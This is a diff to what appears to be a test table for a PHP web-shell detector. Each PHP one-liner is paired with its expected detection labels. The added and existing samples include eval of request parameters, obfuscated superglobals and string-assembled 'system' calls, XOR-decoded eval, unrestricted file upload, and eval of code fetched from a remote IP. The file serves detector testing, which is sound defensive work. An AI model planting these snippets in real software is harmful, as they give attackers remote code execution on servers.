@@ -40,7 +40,8 @@
     {"<?php mb_ereg_replace('x', $_POST['a'], 'x', 'e');",
      "code request; pattern 'x'; pattern request"},
     {"<?php $a = $_GET + $_POST; eval($a['x']);", "code request"},
-    {"<?php eval(1 + $_POST['a']);", "code"}, {"<?php eval((int) $_POST['a']);", "code request number"},
+    {"<?php eval(1 + $_POST['a']);", "code"},
+    {"<?php eval((int) $_POST['a']);", "code request number"},
     {"<?php extract($_REQUEST); eval($code);", "code request"},
     {"<?php foreach ($_POST as $k => $v) { $$k = $v; } eval($code);", "code request list"},
     {"<?php ${'_PO' . 'ST'}['a']; eval(${'_PO' . 'ST'}['a']);", "code request"},
@@ -59,7 +60,8 @@
     {"<?php eval(file_get_contents('http://192.0.2.1/x'));", "code network"},
     {"<?php eval(file_get_contents('php://input'));", "code request"},
     {"<?php eval(getenv('HTTP_X'));", "code header"},
-    {"<?php if (in_array($_GET['f'], array('a', 'b'))) { include $_GET['f']; }", "include request listed"},
+    {"<?php if (in_array($_GET['f'], array('a', 'b'))) { include $_GET['f']; }",
+     "include request listed"},
     {"<?php eval('eval($_POST[\\'a\\']);');", "code 'eval($_POST['a']);'; code request"},
     {"<?php eval('return 1;'); eval($_POST['a']);", "code 'return 1;'; code request"},
     {"<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);", "upload upload"},
@@ -86,3 +88,13 @@
     {"<?php add_action('init', function () { eval($_POST['a']); });", "code request"},
     {"<?php $x = function () use ($f) { return 1; }; function f() { return f(); } eval(f());",
      "code"},
+    {"<?php ${'GLO' . 'BALS'}['a'] = 'sysetm'; $GLOBALS['b'] = $GLOBALS['a'][0] . 'ystem'; "
+     "function f() { $GLOBALS['b']($_GET['x']); } f();",
+     "callee 'system'; command request"},
+    {"<?php $_ = []; $_ = @\"$_\"; $_ = $_['!' == '@']; $_++; $_('x');", "callee 'B'"},
+    {"<?php $f = create_function('$x', 'return assert($x);'); $f($_POST['a']);",
+     "code 'return assert($x);'; code; code request"},
+    {"<?php function d($s) { for ($i = 0; $i < strlen($s); $i++) { $r .= $s[$i] ^ $k; } return $r; "
+     "} "
+     "eval(d($_POST['a']));",
+     "code request"},
